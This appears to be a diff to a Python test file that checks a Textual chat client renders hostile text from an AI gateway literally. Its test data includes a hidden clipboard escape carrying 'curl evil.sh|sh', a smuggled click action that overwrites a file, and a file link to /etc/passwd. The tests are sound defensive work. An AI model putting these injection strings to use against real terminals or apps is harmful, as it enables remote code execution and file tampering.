@@ -23,6 +23,8 @@ from rich.text import Text
 from textual.app import App, ComposeResult
 from textual.content import Content
 from textual.fuzzy import Matcher
+from textual.geometry import Region
+from textual.widget import Widget
 from textual.widgets import DataTable, Select, Static
 
 from liaobots_tui.api.account import UsagePage, UsageRecord
@@ -52,6 +54,8 @@ HOSTILE = f"{MARKUP}{ESCAPES} end"
 SHOWN = f"{MARKUP}]52;c;Y3VybCBldmlsLnNofHNo[2J2J end"
 #: Fragments of MARKUP that must appear on screen as written.
 LITERAL = ("[/] [b]bold?[/b]", "[@click=app.quit]click me[/]", "[link=file:///etc/passwd]x[/link]")
+#: In an error body this became a clickable action that overwrote a file of the server's choosing.
+CLICK = "[@click=app.screenshot('victim.txt','/tmp')]run[/]"
 WIDE = (220, 50)
 
 
@@ -72,8 +76,21 @@ def assert_shown_literally(app: App[Any], *fragments: str) -> None:
 
 
 def no_click_actions(app: App[Any]) -> None:
-    """Nothing on screen carries a click action smuggled in by outside text."""
-    assert "app.quit" not in app.export_screenshot().split("</style>")[0]
+    """Nothing drawn carries a click action or a file link smuggled in by outside text."""
+    drawn = 0
+    for widget in app.screen.walk_children(with_self=True):
+        if not isinstance(widget, Widget) or not widget.display or not widget.size.area:
+            continue
+        for strip in widget.render_lines(Region(0, 0, widget.size.width, widget.size.height)):
+            for segment in strip:
+                style = segment.style
+                if style is None:
+                    continue
+                drawn += 1
+                click = str(style.meta.get("@click", "")) if style.meta else ""
+                assert "app.quit" not in click and "app.screenshot" not in click, click
+                assert not (style.link or "").startswith("file:"), style.link
+    assert drawn  # the check looked at something
 
 
 # ---------------------------------------------------------------- a gateway with hostile answers
@@ -94,7 +111,8 @@ class HostileGateway:
         if path.endswith("/chat/completions"):
             self.chats += 1
             if self.chats > 1:
-                message = f"{HOSTILE} [@click=app.screenshot('victim.txt','/tmp')]run[/]"
+                # The action first: the api layer may cut a long error body short.
+                message = f"{CLICK} {HOSTILE}"
                 return httpx.Response(400, json={"error": {"message": message, "type": "invalid_request"}})
             return httpx.Response(200, content=self._stream(), headers={"content-type": "text/event-stream"})
         return httpx.Response(404, json={"error": {"message": "no"}})
@@ -137,10 +155,10 @@ async def test_hostile_reply_thinking_and_error_are_shown_literally(make_app: Ap
         assert app.return_code is None  # still running: no MarkupError
         toasts = [n for n in app._notifications if n.severity == "error"]
         assert toasts and all(not n.markup for n in toasts)
-        assert MARKUP in toasts[-1].message and "\x1b" not in toasts[-1].message
-        assert "[@click=app.screenshot('victim.txt','/tmp')]run[/]" in toasts[-1].message
+        assert f"{CLICK} [/] [b]bold?[/b]" in toasts[-1].message
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", toasts[-1].message)
         await pilot.pause()
-        assert_shown_literally(app, "[@click=app.quit]click me[/]")
+        assert_shown_literally(app, CLICK)  # in the toast and on the reply's error line
         no_click_actions(app)
 
 
